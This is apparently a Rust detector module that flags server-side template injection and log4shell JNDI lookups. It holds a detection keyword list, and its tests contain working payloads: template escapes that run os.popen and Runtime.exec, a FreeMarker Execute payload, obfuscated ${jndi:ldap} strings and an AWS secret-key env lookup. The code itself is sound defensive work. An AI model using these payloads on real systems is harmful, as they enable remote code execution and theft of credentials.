//! Server-side template injection, and log4shell lookups.
//!
//! Input: a normalized value and its byte classes; for log4shell, a scratch buffer. Output:
//! confirmed or suspicious per family.
//!
//! Templates: an expression delimiter (`{{ }}`, `${ }`, `#{ }`, `*{ }`, `@{ }`, `<%= %>`,
//! `{% %}`, `[[ ]]`, FreeMarker's `<# >`) whose body is a probe or an escape: digit arithmetic (`{{7*7}}`,
//! `${7*'7'}`), an object-graph walk (`__class__`, `__mro__`, `__subclasses__`, `__globals__`,
//! `__builtins__`, `constructor.constructor`, `getclass`), the template's globals (`config`,
//! `self`, `request`, `lipsum`, `cycler`, `joiner`, `namespace`, `settings`), or code reach
//! (`T(java.lang.Runtime)`, `freemarker.template.utility.Execute`, `?new(`, `popen`, `system(`,
//! `exec(`, `import`). A plain placeholder (`Hello {{ user.name }}`) is suspicious only.
//!
//! Log4shell: `${…}` lookups resolved the way log4j resolves them (`${lower:j}` is `j`,
//! `${::-n}` and `${env:X:-d}` their default, `${date:'i'}` the quoted text, other lookups
//! nothing), innermost first, at most [`MAX_NESTING`] deep; confirmed when a lookup resolves to
//! `jndi:…`. Other lookups (`${env:AWS_SECRET_ACCESS_KEY}`, `${sys:user.name}`) are suspicious.

use super::classes::{self, Mask};
use aho_corasick::{AhoCorasick, AhoCorasickKind};
use std::sync::OnceLock;

/// Nesting of `${` log4shell resolution follows at most.
pub const MAX_NESTING: usize = 16;

const OPENERS: &[(&[u8], &[u8])] = &[
    (b"{{", b"}}"), (b"${", b"}"), (b"#{", b"}"), (b"*{", b"}"), (b"@{", b"}"), (b"<%", b"%>"), (b"{%", b"%}"), (b"[[", b"]]"), (b"<#", b">"),
];

/// What, inside a template expression, probes or escapes it.
const DANGEROUS: &[&[u8]] = &[
    b"__class__", b"__mro__", b"__subclasses__", b"__globals__", b"__builtins__", b"__import__", b"__init__",
    b"constructor.constructor", b"getclass", b"java.lang", b"runtime", b"freemarker.template", b"?new(", b"popen",
    b"system(", b"exec(", b"import ", b"config", b"self.", b"self}", b"request.", b"request}", b"lipsum", b"cycler",
    b"joiner", b"namespace", b"settings.", b"t(java", b"process.", b"require(", b"getruntime", b"_self.env",
    b"registerundefinedfiltercallback", b"file.read", b"io.popen", b"os.", b"eval(", b"range.constructor",
    b"7*'7'", b"dump(", b"include(", b"$on",
];

/// Template bodies looked at per delimiter kind and value.
const MAX_BODIES: usize = 32;

fn dangerous() -> &'static AhoCorasick {
    static D: OnceLock<AhoCorasick> = OnceLock::new();
    D.get_or_init(|| AhoCorasick::builder().kind(Some(AhoCorasickKind::DFA)).build(DANGEROUS).expect("static list builds"))
}

/// `d op d` with digits, in a template body: the `{{7*7}}` probe.
fn arithmetic(body: &[u8]) -> bool {
    body.windows(3).any(|w| w[0].is_ascii_digit() && matches!(w[1], b'*' | b'+' | b'-' | b'/' | b'%') && w[2].is_ascii_digit())
        || body.windows(4).any(|w| w[0].is_ascii_digit() && w[1] == b'*' && matches!(w[2], b'\'' | b'"') && w[3].is_ascii_digit())
}

/// Looks for template injection in a normalized value. Returns (confirmed, suspicious).
pub fn detect(s: &[u8], mask: Mask) -> (bool, bool) {
    if mask & (classes::BRACE | classes::LT | classes::BRACKET) == 0 {
        return (false, false);
    }
    let mut suspicious = false;
    for &(open, close) in OPENERS {
        let mut from = 0;
        let mut bodies = 0;
        while let Some(k) = classes::find(&s[from..], open) {
            bodies += 1;
            if bodies > MAX_BODIES {
                break;
            }
            let start = from + k + open.len();
            // `${jndi:` is log4shell's, not a template's.
            if open == b"${" && s[start..].starts_with(b"jndi:") {
                from = start;
                continue;
            }
            // A body is looked at up to its close, and at most 256 bytes.
            let limit = s.len().min(start + 256);
            let end = classes::find(&s[start..limit], close).map(|e| start + e);
            let body = &s[start..end.unwrap_or(limit)];
            classes::tick(3 * body.len());
            // Only a closed body confirms: `'<%s instance>' % x.__class__` is Python, not ERB.
            if end.is_some() || body.len() > 3 {
                suspicious = true;
                if end.is_some() && (arithmetic(body) || dangerous().is_match(body)) {
                    return (true, true);
                }
            }
            // An unclosed body was looked at whole: what opens inside it was part of it.
            from = end.unwrap_or(limit).max(start);
        }
    }
    (false, suspicious)
}

/// Resolves log4j lookups in `s` into `out` (see the module doc). Returns (whether a `jndi:`
/// lookup was found, whether any lookup was resolved).
fn resolve_lookups(s: &[u8], out: &mut Vec<u8>) -> (bool, bool) {
    classes::tick(s.len());
    out.clear();
    let mut opens = [0usize; MAX_NESTING];
    let mut depth = 0;
    let mut resolved = false;
    let mut i = 0;
    while i < s.len() {
        if s[i] == b'$' && s.get(i + 1) == Some(&b'{') && depth < MAX_NESTING {
            opens[depth] = out.len();
            depth += 1;
            out.extend_from_slice(b"${");
            i += 2;
            continue;
        }
        if s[i] == b'}' && depth > 0 {
            depth -= 1;
            let at = opens[depth];
            let body_start = at + 2;
            if out[body_start..].starts_with(b"jndi:") {
                return (true, resolved);
            }
            resolved = true;
            let body = &out[body_start..];
            let keep: (usize, usize) = if let Some(k) = memchr::memmem::rfind(body, b":-") {
                (k + 2, body.len())
            } else if let Some(rest) = body.strip_prefix(b"lower:").or_else(|| body.strip_prefix(b"upper:")) {
                (body.len() - rest.len(), body.len())
            } else if body.starts_with(b"date:'") && body.ends_with(b"'") && body.len() >= 7 {
                (6, body.len() - 1)
            } else {
                (0, 0)
            };
            let (a, b) = (body_start + keep.0, body_start + keep.1);
            classes::tick(out.len() - at);
            out.copy_within(a..b, at);
            out.truncate(at + (b - a));
            i += 1;
            continue;
        }
        out.push(s[i]);
        i += 1;
    }
    // An unclosed outer lookup still reads `${jndi:` once its inner ones are resolved.
    let found = opens[..depth].iter().any(|&at| out[at + 2..].starts_with(b"jndi:"));
    (found, resolved)
}

/// Looks for a log4shell lookup in a normalized value. Returns (confirmed, suspicious,
/// obfuscated: found only once nested lookups were resolved).
pub fn detect_jndi(s: &[u8], mask: Mask, buf: &mut Vec<u8>) -> (bool, bool, bool) {
    if mask & classes::DOLLAR == 0 || mask & classes::BRACE == 0 {
        return (false, false, false);
    }
    let Some(first) = classes::find(s, b"${") else { return (false, false, false) };
    let (found, resolved) = resolve_lookups(&s[first..], buf);
    if found {
        return (true, true, resolved);
    }
    let lookup = |i: usize| [&b"env:"[..], b"sys:", b"java:", b"lower:", b"upper:", b"::-", b"base64:", b"main:", b"ctx:", b"bundle:"].iter().any(|p| s[i + 2..].starts_with(p));
    (false, resolved && memchr::memchr_iter(b'$', s).any(|i| s.get(i + 1) == Some(&b'{') && lookup(i)), false)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ssti(s: &str) -> (bool, bool) {
        let l = s.to_ascii_lowercase();
        detect(l.as_bytes(), classes::mask(l.as_bytes()))
    }

    fn jndi(s: &str) -> (bool, bool, bool) {
        let l = s.to_ascii_lowercase();
        detect_jndi(l.as_bytes(), classes::mask(l.as_bytes()), &mut Vec::new())
    }

    #[test]
    fn template_probes_and_escapes_are_confirmed() {
        for p in [
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{{7*'7'}}",
            "{{config.items()}}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
            "{% import os %}{{ os.popen('id').read() }}",
            "{{constructor.constructor('alert(1)')()}}",
            "*{T(java.lang.Runtime).getRuntime().exec('id')}",
        ] {
            assert!(ssti(p).0, "{p}");
        }
    }

    #[test]
    fn placeholders_and_braces_in_text_stay_unconfirmed() {
        assert_eq!(ssti("Hello {{ user.name }}, your order ships"), (false, true));
        assert_eq!(ssti("return self.escape('<%s instance>' % x.__class__.__name__)"), (false, true));
        for t in ["{\"a\": 1}", "f(x) = {1, 2, 3}", "price: ${price}", "a {b} c", "[[link]]", "2024-05-01 {draft}"] {
            assert!(!ssti(t).0, "{t}");
        }
    }

    #[test]
    fn jndi_lookups_are_confirmed_also_behind_obfuscation() {
        assert_eq!(jndi("${jndi:ldap://x.example/a}"), (true, true, false));
        assert_eq!(jndi("${${lower:j}ndi:ldap://x/a}"), (true, true, true));
        assert_eq!(jndi("${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"), (true, true, true));
        assert_eq!(jndi("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}"), (true, true, true));
        assert!(jndi("${${upper:j}${date:'n'}di:dns://x}").0);
        assert_eq!(jndi("Mozilla/5.0 ${jndi:ldap://x/a"), (true, true, false));
    }

    #[test]
    fn other_lookups_are_suspicious_and_prices_nothing() {
        assert_eq!(jndi("${env:AWS_SECRET_ACCESS_KEY}"), (false, true, false));
        assert_eq!(jndi("costs ${price} today"), (false, false, false));
        let deep = format!("{}jndi:x{}", "${".repeat(100), "}".repeat(100));
        let _ = jndi(&deep);
    }
}
